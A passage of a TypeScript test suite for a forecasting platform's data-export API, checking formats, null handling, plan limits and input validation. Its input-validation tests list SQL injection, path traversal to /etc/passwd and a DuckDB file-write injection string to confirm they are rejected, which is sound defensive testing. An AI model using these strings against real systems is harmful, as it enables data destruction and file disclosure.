    const rows = JSON.parse(r.text) as any[];
    expect(rows.length).toBe(6);
    // Without a limit the order is not guaranteed: compare as a set.
    expect(rows.map((x) => `${x.question_id}/${x.model}`).sort()).toEqual(
      ['q:10', 'q:2', 'q:6'].flatMap((q) => [`${q}/model-a`, `${q}/model-b`]),
    );
    expect(rows[0]).toHaveProperty('brier');
    expect(rows[0]).toHaveProperty('market_brier');
    expect(parseCsv((await get('/api/export/scores?category=finance')).text).every((x) => x.category === 'finance')).toBe(true);
  });

  it('forecasts: enterprise only, raw output with reasoning, as the snapshot saw them', async () => {
    const r = await get('/api/export/forecasts?output=jsonl', 'enterprise');
    expect(r.res.status, r.text).toBe(200);
    const rows = r.text.trim().split('\n').map((l) => JSON.parse(l));
    // 10 raw rows: one created after as_of (i = 7) and one of an unknown question are left out.
    expect(rows.length).toBe(9);
    expect(rows.some((x) => x.question_id === 'q:7' && x.created_at >= '2025-05')).toBe(false);
    expect(rows.every((x) => typeof x.reasoning === 'string' && x.reasoning.includes('\n'))).toBe(true);
    expect(rows[0]).toMatchObject({ run_id: 'r2', provider: 'simulated' });
    expect(Array.isArray(rows[0].key_factors)).toBe(true);
    const created = rows.map((x) => x.created_at as string);
    expect([...created].sort()).toEqual(created);
    const csv = parseCsv((await get('/api/export/forecasts?category=crypto', 'enterprise')).text);
    expect(csv.length).toBeGreaterThan(0);
    expect(csv.every((x) => x.category === 'crypto')).toBe(true);
    const since = parseCsv((await get('/api/export/forecasts?since=2025-02-15T00:05:00Z', 'enterprise')).text);
    expect(since.map((x) => x.prompt_hash).sort()).toEqual(['h5', 'h6', 'h8', 'h9']);

    for (const plan of ['api', 'pro']) {
      const denied = await get('/api/export/forecasts', plan);
      expectProblem(denied, 403, 'plan_required');
      expect(denied.body.plan).toBe('enterprise');
    }
  });
});

describe('nested values (lists) are JSON in CSV too', () => {
  it('a list cell of a CSV export is the JSON text of the value the JSON export holds (whole file and sliced)', async () => {
    // forecasts (whole file): key_factors and evidence_ids.
    const csv = parseCsv((await get('/api/export/forecasts', 'enterprise')).text);
    const json = JSON.parse((await get('/api/export/forecasts?output=json', 'enterprise')).text) as any[];
    expect(csv.length).toBe(9);
    expect(csv.map((r) => r.prompt_hash)).toEqual(json.map((r) => r.prompt_hash));
    csv.forEach((row, k) => {
      for (const col of ['key_factors', 'evidence_ids']) {
        expect(() => JSON.parse(row[col]!), `${col}: ${row[col]}`).not.toThrow();
        expect(JSON.parse(row[col]!), col).toEqual(json[k][col]);
      }
    });
    expect(JSON.parse(csv[0]!.key_factors!)).toEqual([
      expect.stringMatching(/^factor \d$/), 'market probability 3.5%', 'it\'s "quoted", with a comma\\ and a backslash',
    ]);
    // track_records: sliced for api, whole file (capped) for pro; an empty list is [].
    const tracks = JSON.parse((await get('/api/export/track_records?output=json')).text) as any[];
    expect(tracks.map((r) => r.categories)).toEqual([['climate', 'crypto'], ['world', "it's, \\odd"], []]);
    for (const plan of ['api', 'pro']) {
      const r = await get('/api/export/track_records', plan);
      expect(r.res.headers.get('x-export-sliced'), plan).toBe(plan === 'api' ? 'true' : null);
      const rows = parseCsv(r.text);
      expect(rows.map((x) => JSON.parse(x.categories!)), plan).toEqual(tracks.map((x) => x.categories));
      expect(rows[1]!.name).toBe('Source "B", Inc.'); // plain strings stay plain
    }
    // Parquet keeps them as lists.
    const pq = await readParquet((await get('/api/export/track_records?output=parquet')).bytes);
    expect(pq.map((r) => r.categories)).toEqual(tracks.map((x) => x.categories));
  });
});

describe('an empty text and a null are told apart in every format', () => {
  it('CSV: an empty text is "", a null an empty cell (sliced and whole file), as DuckDB reads them back with allow_quoted_nulls = false; JSON and Parquet: "" and null', async () => {
    const json = JSON.parse((await get('/api/export/track_records?output=json')).text) as any[];
    expect(json.map((r) => r.description)).toEqual([null, null, '']);
    const pq = await readParquet((await get('/api/export/track_records?output=parquet')).bytes);
    expect(pq.map((r) => r.description)).toEqual([null, null, '']);
    const dir = await mkdtemp(path.join(tmpdir(), 'quorum-csv-null-'));
    const inst = await DuckDBInstance.create(':memory:');
    const c = await inst.connect();
    try {
      for (const plan of ['api', 'pro']) {
        const r = await get('/api/export/track_records', plan);
        const lines = r.text.split('\n');
        expect(lines[3], plan).toMatch(/^src-c,Source C,[^,]*,[^,]*,"",/); // source_slug, name, kind, url, description
        expect(lines[1], plan).toMatch(/^src-a,Source A,[^,]*,[^,]*,,/);
        const file = path.join(dir, `${plan}.csv`);
        await writeFile(file, r.text);
        const read = await c.runAndReadAll(`SELECT description FROM read_csv('${file}', allow_quoted_nulls = false)`);
        expect(read.getRows().map((x) => x[0]), plan).toEqual([null, null, '']);
      }
    } finally {
      c.closeSync();
      inst.closeSync();
      await rm(dir, { recursive: true, force: true });
    }
  });
});

describe('plans', () => {
  it('anonymous (no auth, or an unknown plan value) → 401', async () => {
    for (const plan of [null, 'anonymous', 'root']) {
      const r = await get('/api/export/predictions', plan);
      expectProblem(r, 401, 'unauthorized');
      expect(r.res.headers.get('www-authenticate')).toBe('Bearer');
    }
  });

  it('pro: CSV only, capped, with X-Export-Row-Cap and X-Export-Truncated', async () => {
    const capped = await get('/api/export/predictions', 'pro');
    expect(capped.res.status).toBe(200);
    expect(capped.res.headers.get('x-export-row-cap')).toBe('5');
    expect(capped.res.headers.get('x-export-truncated')).toBe('true');
    expect(capped.res.headers.get('x-export-rows')).toBe('5');
    expect(parseCsv(capped.text).map((x) => x.question_id)).toEqual(sortedIds.slice(0, 5));

    const bigLimit = await get('/api/export/predictions?limit=50', 'pro');
    expect(bigLimit.res.headers.get('x-export-truncated')).toBe('true');
    expect(parseCsv(bigLimit.text).length).toBe(5);

    const small = await get('/api/export/predictions?limit=3', 'pro');
    expect(small.res.headers.get('x-export-row-cap')).toBe('5');
    expect(small.res.headers.get('x-export-truncated')).toBeNull();
    expect(parseCsv(small.text).length).toBe(3);

    // Fewer matching rows than the cap: not truncated.
    const few = await get('/api/export/predictions?status=resolved', 'pro');
    expect(few.res.headers.get('x-export-truncated')).toBeNull();
    expect(parseCsv(few.text).length).toBe(3);

    // Exactly cap + 1 rows would be truncated; exactly cap rows would not.
    const resolvedAll = parseCsv((await get('/api/export/resolved?category=crypto')).text).length;
    const r = await get('/api/export/resolved?category=crypto', 'pro');
    expect(r.res.headers.get('x-export-truncated')).toBe(resolvedAll > 5 ? 'true' : null);

    for (const output of ['json', 'jsonl', 'parquet']) {
      const denied = await get(`/api/export/predictions?output=${output}`, 'pro');
      expectProblem(denied, 403, 'plan_required');
      expect(denied.body.plan).toBe('api');
      expect(denied.body.detail).toContain('api');
    }
  });

  it('api and enterprise: every format, no cap', async () => {
    for (const plan of ['api', 'enterprise']) {
      const r = await get('/api/export/predictions', plan);
      expect(r.res.headers.get('x-export-row-cap')).toBeNull();
      expect(parseCsv(r.text).length).toBe(N_QUESTIONS);
    }
  });
});

describe('bad input', () => {
  const INJECTIONS = [
    "'; DROP TABLE questions; --",
    "crypto' OR '1'='1",
    '1 OR 1=1',
    '1; SELECT 1',
    '../../etc/passwd',
    '..%2F..%2Fetc%2Fpasswd',
    "csv') TO '/tmp/pwn.csv' (FORMAT csv); --",
    '%00',
    '-1',
    '0',
    '1e3',
    ' 5',
    'x'.repeat(300),
  ];

  it('unknown table → 404 listing the exportable tables (injection and traversal strings too)', async () => {
    for (const table of ['nope', 'questions', 'raw_forecasts', "predictions';DROP TABLE x;--", '..', '..%2F..%2Fetc%2Fpasswd', '%2e%2e', 'predictions%00']) {
      const r = await get(`/api/export/${table}/`);
      expectProblem(r, 404, 'not_found');
      if (r.body.allowed) expect(r.body.allowed).toEqual([...EXPORT_TABLES]);
    }
    const r = await get('/api/export/nope');
    expect(r.body.allowed).toEqual([...EXPORT_TABLES]);
    expect(EXPORT_TABLES.slice(0, 4)).toEqual(['predictions', 'resolved', 'scores', 'forecasts']);
    expect(r.body.detail).toContain(EXPORT_TABLES.join(', '));
  });

  it('table names match case-insensitively, as paths do (QA: /API/PREDICTIONS/ACCURACY answered, /api/export/RESOLVED/ was a 404)', async () => {
    const lower = await get('/api/export/predictions/?output=json');
    const upper = await get('/api/export/PREDICTIONS/?output=json');
    expect(upper.res.status).toBe(200);
    expect(upper.text).toBe(lower.text);
  });

  it('every parameter rejects injection and traversal strings with 400 naming it', async () => {
    for (const param of ['output', 'category', 'since', 'status', 'limit']) {
      for (const value of INJECTIONS) {
        const r = await get(`/api/export/predictions?${param}=${encodeURIComponent(value)}`);
        expectProblem(r, 400, 'invalid_parameter');
        expect(r.body.parameter, `${param}=${value}`).toBe(param);
      }
    }
    // The tables are intact afterwards.
    expect(parseCsv((await get('/api/export/predictions')).text).length).toBe(N_QUESTIONS);
    await srv.service.drain();
    expect(await noExportFiles(srv.tempDir)).toEqual([]);
  });

  it('malformed values → 400 naming the parameter', async () => {
    const cases: Array<[string, string]> = [
      ['output=xml', 'output'],
      ['output=csv&output=json', 'output'],
      ['limit=abc', 'limit'],
      ['limit=2000000000', 'limit'],
      ['limit=1.5', 'limit'],
      ['status=open', 'status'],
      ['category=weather', 'category'],
      ['since=yesterday', 'since'],
      ['since=2025-02-30', 'since'],
      ['since=2025-13-01', 'since'],
      ['since=2025-01-01T25:00:00Z', 'since'],
      ['since=1735689600', 'since'],
    ];
    for (const [q, param] of cases) {
      const r = await get(`/api/export/predictions?${q}`);
      expectProblem(r, 400, 'invalid_parameter');
      expect(r.body.parameter, q).toBe(param);
    }
    // status applies to predictions only
    const r = await get('/api/export/resolved?status=active');
    expectProblem(r, 400, 'invalid_parameter');
    expect(r.body.parameter).toBe('status');
    expect((await get('/api/export/resolved?status=all')).res.status).toBe(200);
  });

  it('a filter of the tables\' list endpoints that no export applies is a 400 naming it, never ignored (QA: /api/export/claims/?source=… and ?made_since=… returned every claim of every source)', async () => {
    const cases: Array<[string, string, string]> = [
      ['claims', 'source', 'fte'],
      ['claims', 'kind', 'value'],
      ['claims', 'resolved', 'true'],
      ['claims', 'made_since', '2025-01-01'],
      ['claims', 'question_id', 'q:1'],
      ['track_records', 'kind', 'pollster'],
      ['track_records', 'min_resolved', '10'],
      ['track_records', 'sort', 'brier'],
      ['resolved', 'venue', 'kalshi'],
      ['predictions', 'cursor', 'abc'],
      // the prediction lists' filters (mode, domain, horizon, lang, min_edge, origin, rounds)
      ['predictions', 'mode', 'blind'],
      ['predictions', 'domain', 'ai'],
      ['resolved', 'horizon', '8-30'],
      ['scores', 'lang', 'fr'],
      ['predictions', 'min_edge', '0.1'],
      ['forecasts', 'origin', 'live'],
      ['scores', 'rounds', 'all'],
    ];
    for (const [table, param, value] of cases) {
      const r = await get(`/api/export/${table}/?${param}=${value}`);
      expectProblem(r, 400, 'invalid_parameter');
      expect(r.body.parameter, `${table}?${param}`).toBe(param);
      expect(r.body.detail, `${table}?${param}`).toContain(`the ${table} export`);
    }
    // the bracket form of array-minded clients (qs, PHP) is refused too, not ignored
    const bracket = await get('/api/export/resolved/?status[]=resolved');
    expectProblem(bracket, 400, 'invalid_parameter');
    expect(bracket.body.parameter).toBe('status[]');
    const made = await get('/api/export/claims/?made_since=2025-01-01');
    expect(made.body.detail).toContain('created_since');
    // An empty value is a parameter left out, as everywhere.
    expect((await get('/api/export/resolved/?venue=')).res.status).toBe(200);
  });

  it('every other filter name of the API is a 400 too, never ignored (outside test: /api/export/scores/?model=sim-gpt, /api/export/claims/?source_slug=… and /api/export/scenario_records/?scenario_id=… answered 200 with every row)', async () => {
    const cases: Array<[string, string, string]> = [
      ['scores', 'model', 'sim-gpt'],
      ['scores', 'forecaster', 'sim-gpt'],
      ['forecasts', 'model', 'sim-gpt'],
      ['claims', 'source_slug', 'fte'],
      ['claims', 'claim_id', 'c1'],
      ['track_records', 'source_slug', 'fte'],
      ['scenario_records', 'scenario_id', 'fed'],
      ['predictions', 'market_id', 'm-1'],
      ['resolved', 'include_stale', 'true'],
      ['track_records', 'dimension', 'category'],
      ['predictions', 'thesis_id', 't1'],
      ['predictions', 'factor_id', 'f1'],
    ];
    for (const [table, param, value] of cases) {
      const r = await get(`/api/export/${table}/?${param}=${value}`);
      expectProblem(r, 400, 'invalid_parameter');
      expect(r.body.parameter, `${table}?${param}`).toBe(param);
      expect(r.body.detail, `${table}?${param}`).toContain(`the ${table} export`);
    }
    // the export's own filters are still read
    expect((await get('/api/export/resolved/?category=crypto&since=2025-01-01')).res.status).toBe(200);
  });

  it('a format asked for by another API\'s name (format, _format) is a 400 naming output, never a CSV file (outside test: /api/export/claims/?format=jsonl answered CSV)', async () => {
    for (const param of ['format', '_format', 'Format']) {
      const r = await get(`/api/export/claims/?${param}=jsonl`);
      expectProblem(r, 400, 'invalid_parameter');
      expect(r.body.detail, param).toContain('output=csv|json|jsonl|parquet');
    }
  });

  it('a parameter written in another case or with - for _ is a 400 naming the one meant, never ignored (outside test: ?Resolved_Since=2030-01-01 and ?LIMIT=1 exported every row, ?OUTPUT=json a CSV file)', async () => {
    const cases: Array<[string, string, string, string]> = [
      ['resolved', 'Resolved_Since', '2030-01-01', 'resolved_since'],
      ['resolved', 'resolved-since', '2030-01-01', 'resolved_since'],
      ['predictions', 'LIMIT', '1', 'limit'],
      ['predictions', 'OUTPUT', 'json', 'output'],
      ['predictions', 'Status', 'active', 'status'],
      ['scores', 'Since', '2030-01-01', 'since'],
      ['resolved', 'Category', 'politics', 'category'],
      ['claims', 'Source', 'fte', 'source'],
    ];
    for (const [table, param, value, meant] of cases) {
      const r = await get(`/api/export/${table}/?${param}=${value}`);
      expectProblem(r, 400, 'invalid_parameter');
      expect(r.body.parameter, `${table}?${param}`).toBe(param);
      expect(r.body.detail, `${table}?${param}`).toContain(`did you mean '${meant}'?`);
    }
    // the names as written are read as before
    const limited = await get('/api/export/predictions/?limit=1');
    expect(limited.res.status, limited.text).toBe(200);
    expect(limited.res.headers.get('X-Export-Rows')).toBe('1');
  });

  it('a rejected value is shown back; an offset whose + arrived as a space says to send %2B (QA: the detail named +02:00 as allowed while refusing it, without saying what arrived)', async () => {
    // Typed into a URL as is, `+05:30` reaches the server as ` 05:30` (a '+' in a query string is a space).
    const plus = await get('/api/export/predictions?since=2025-01-01T00:00:00+05:30');
    expectProblem(plus, 400, 'invalid_parameter');
    expect(plus.body.parameter).toBe('since');
    expect(plus.body.detail).toContain('got "2025-01-01T00:00:00 05:30"');
    expect(plus.body.detail).toContain('%2B05:30');
    expect(plus.body.allowed).toEqual({ min: '1970-01-01T00:00:00Z', max: '9999-12-31T23:59:59.999999Z' });
    // Sent as %2B, the same instant is accepted.
    expect((await get('/api/export/predictions?since=2025-01-01T00:00:00%2B05:30')).res.status).toBe(200);
    // Any other malformed value: shown back, no %2B hint.
    const other = await get('/api/export/resolved?resolved_since=yesterday');
    expect(other.body.detail).toContain('got "yesterday"');
    expect(other.body.detail).not.toContain('%2B');
    for (const [q, got] of [['output=xml', 'xml'], ['limit=abc', 'abc'], ['status=open', 'open'], ['category=weather', 'weather']]) {
      const r = await get(`/api/export/predictions?${q}`);
      expectProblem(r, 400, 'invalid_parameter');
      expect(r.body.detail, q).toContain(`got "${got}"`);
    }
  });

  it('parseSince keeps microseconds and normalises offsets to UTC', () => {
    expect(parseSince('2025-03-01')).toBe('2025-03-01 00:00:00.000000');
    expect(parseSince('2025-03-01T12:30:00.000123Z')).toBe('2025-03-01 12:30:00.000123');
    expect(parseSince('2025-03-01T01:00:00-02:30')).toBe('2025-03-01 03:30:00.000000');
    expect(parseSince('2025-03-01T12:00')).toBe('2025-03-01 12:00:00.000000');
    expect(parseSince('2024-02-29')).not.toBeNull();
    expect(parseSince('2025-02-29')).toBeNull();
    expect(parseSince("2025-03-01' OR 1=1")).toBeNull();
  });
});

describe('operations', () => {
  it('no temp file is left after exports; in-flight is back to 0', async () => {
    await get('/api/export/predictions?output=parquet');
    // The body is complete before the server's finally ran: drain() waits for it.
    await srv.service.drain();
    expect(srv.service.inFlightExports()).toBe(0);
    expect(await noExportFiles(srv.tempDir)).toEqual([]);
  });

  it('a snapshot lacking the table → 503 not_ready', async () => {
    const tmp = await tempDataDir();
    try {
      // Without scored_forecasts: an older pipeline's snapshot.
      await writeSnapshot(tmp.dir, 'r20250402T000000Z-nt01', fixtureData(1), { omitTables: ['scored_forecasts'] });
      await publish(tmp.dir, 'r20250402T000000Z-nt01');
      const s = await startExportServer(tmp.dir);
      try {
        const res = await fetch(`${s.url}/api/export/scores`, { headers: { 'X-Test-Plan': 'api' } });
        expect(res.status).toBe(503);
        expect((await res.json()).code).toBe('not_ready');
        const ok = await fetch(`${s.url}/api/export/resolved`, { headers: { 'X-Test-Plan': 'api' } });
        expect(ok.status).toBe(200);
        await ok.arrayBuffer();
        // each started export has one outcome: the 503 is a failed one (QA soak: started, nothing else)
        await s.service.drain();
        const st = s.service.stats;
        expect([st.started, st.completed, st.failed]).toEqual([2, 1, 1]);
      } finally {
        await s.close();
      }
    } finally {
      await tmp.cleanup();
    }
  });
});
